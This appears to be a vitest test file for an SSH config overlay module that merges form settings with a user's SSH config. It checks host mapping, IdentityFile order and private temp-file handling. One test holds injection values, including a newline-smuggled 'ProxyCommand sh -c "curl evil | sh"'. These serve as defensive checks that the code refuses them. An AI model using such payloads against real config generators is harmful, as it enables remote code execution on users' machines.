/**
 * The generated SSH config: what the probes' own parser (./config.ts over `ssh-config`) makes
 * of it — the form's choices for the nodes, the user's config for everything else — and that
 * nothing the form sends can add a line.
 */
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { resolveSshTarget } from '../../../../../src/backend/probes/ssh/config.js';
import { hasOverrides, overlayConfigText, withSshOverlay } from '../../../../../src/backend/probes/ssh/overlay.js';

const userConfig = [
  'User fallback',
  'IdentityFile ~/.ssh/global',
  '',
  'Host bastion',
  '  HostName 192.0.2.10',
  '  User jumper',
  '',
  'Host other',
  '  HostName other.example.com',
  '  Port 2200',
].join('\n');
const settings = { user: 'ubuntu', identityFile: '/keys/lab', jump: 'ops@bastion:2222', nodes: [{ node: 'worker-1', address: '10.0.0.5' }] };
const opts = { home: '/home/me', defaultUser: 'me' };

describe('overlayConfigText', () => {
  const text = overlayConfigText(settings, ['worker-1', 'worker-2'], userConfig);

  it('gives a mapped node its address, user, key and jump host', () => {
    const t = resolveSshTarget(text, 'worker-1', opts);
    expect(t).toMatchObject({ hostName: '10.0.0.5', port: 22, user: 'ubuntu', jumps: ['ops@bastion:2222'] });
    // IdentityFile adds up, as in OpenSSH: the form's key first.
    expect(t.identityFiles).toEqual(['/keys/lab', '/home/me/.ssh/global']);
  });

  it('gives the other cluster nodes the user, key and jump host, and their InternalIP', () => {
    const t = resolveSshTarget(text, 'worker-2', { ...opts, fallbackHostName: '10.0.0.6' });
    expect(t).toMatchObject({ hostName: '10.0.0.6', user: 'ubuntu', jumps: ['ops@bastion:2222'] });
  });

  it("keeps the user's config for the jump host and other hosts, top-level lines included", () => {
    // The top-level `User fallback` comes first in the user's file, so it wins there too (as in OpenSSH).
    expect(resolveSshTarget(text, 'bastion', opts)).toMatchObject({ hostName: '192.0.2.10', user: 'fallback', jumps: [] });
    expect(resolveSshTarget(overlayConfigText(settings, [], userConfig.replace('User fallback', '')), 'bastion', opts)).toMatchObject({ user: 'jumper' });
    expect(resolveSshTarget(text, 'other', opts)).toMatchObject({ hostName: 'other.example.com', port: 2200, user: 'fallback', jumps: [] });
  });

  it('writes only the address when the form has nothing else', () => {
    const t = overlayConfigText({ nodes: [{ node: 'worker-1', address: 'w1.example.com' }] }, ['worker-2'], '');
    expect(t).toContain('Host worker-1\n  HostName w1.example.com\n');
    expect(t).not.toContain('worker-2');
    expect(resolveSshTarget(t, 'worker-2', { ...opts, fallbackHostName: '10.0.0.6' })).toMatchObject({ hostName: '10.0.0.6', user: 'me' });
  });

  it('refuses an injection attempt instead of writing it', () => {
    expect(() => overlayConfigText({ user: 'root\nHost *\n  ProxyCommand sh -c "curl evil | sh"' }, ['worker-1'], '')).toThrow();
    expect(() => overlayConfigText({ nodes: [{ node: 'worker-1', address: '10.0.0.5 \n ProxyCommand x' }] }, [], '')).toThrow();
    // A cluster node name that is not a plain name is left out, not written as a pattern.
    const hosts = overlayConfigText({ user: 'ubuntu' }, ['*', 'a b', 'ok-1'], '')
      .split('\n')
      .filter((l) => l.startsWith('Host '));
    expect(hosts).toEqual(['Host ok-1', 'Host *']);
  });
});

describe('withSshOverlay', () => {
  it('writes a private file for the time of the call, then removes it', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'pathlight-overlay-test-'));
    try {
      const user = path.join(dir, 'config');
      await writeFile(user, userConfig);
      let seen = '';
      const out = await withSshOverlay(settings, user, ['worker-2'], async (file) => {
        seen = file!;
        expect(file).not.toBe(user);
        expect((await stat(file!)).mode & 0o777).toBe(0o600);
        return readFile(file!, 'utf8');
      });
      expect(out).toContain('Host worker-2\n  User ubuntu');
      expect(out).toContain('Host bastion');
      await expect(stat(seen)).rejects.toThrow();
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('passes the config path through when the form overrides nothing', async () => {
    expect(hasOverrides({ configFile: '/x' })).toBe(false);
    expect(await withSshOverlay({ configFile: '/x' }, '/x', ['w'], async (f) => f)).toBe('/x');
    expect(await withSshOverlay(undefined, undefined, ['w'], async (f) => f)).toBeUndefined();
  });
});
